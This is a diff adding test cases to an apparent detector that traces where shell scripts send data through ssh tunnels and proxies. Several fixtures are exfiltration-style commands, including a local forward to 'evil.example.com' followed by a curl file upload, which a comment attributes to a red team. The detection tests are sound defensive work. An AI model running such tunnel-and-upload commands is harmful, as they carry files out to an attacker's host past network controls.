@@ -772,6 +772,18 @@ describe("a connection the line or the script redirects", () => {
       "export http_proxy=http://proxy.example.de:3128\ncurl -T f http://10.0.1.5/up",
       ["curl → http://10.0.1.5/up", "curl → http://proxy.example.de:3128"],
     ],
+    // An ssh tunnel carries what the machine sends into it to the server, and on to a local
+    // forward's target (the red team's `ssh -L 9000:evil:9000 peer`, then `curl … localhost:9000`).
+    [
+      "ssh -f -N -L 9000:evil.example.com:9000 ops@10.0.1.5\ncurl -T f http://localhost:9000/",
+      ["ssh → host 10.0.1.5", "ssh → host evil.example.com", "curl → http://localhost:9000/"],
+    ],
+    ["ssh -fN -D 1080 ops@tunnel.example.de", ["ssh → host tunnel.example.de"]],
+    ["ssh -R 5432:localhost:5432 ops@203.0.113.9 -N", ["ssh → host 203.0.113.9"]],
+    [
+      "ssh -o LocalForward='9000 evil.example.com:9000' ops@10.0.1.5 -N",
+      ["ssh → host 10.0.1.5", "ssh → host evil.example.com"],
+    ],
   ])("%s sends through what redirects it", (script, expected) => {
     expect(sends(script)).toEqual(expected);
   });
@@ -790,6 +802,8 @@ describe("a connection the line or the script redirects", () => {
       "https_proxy=http://proxy.example.de:3128 true\ncurl -T f https://10.0.1.5/",
       ["curl → https://10.0.1.5/"],
     ],
+    // A command run over ssh, with no tunnel, sends only the command.
+    ["ssh ops@10.0.1.5 uptime", []],
   ])("twin: %s sends only to its destination", (script, expected) => {
     expect(sends(script)).toEqual(expected);
   });
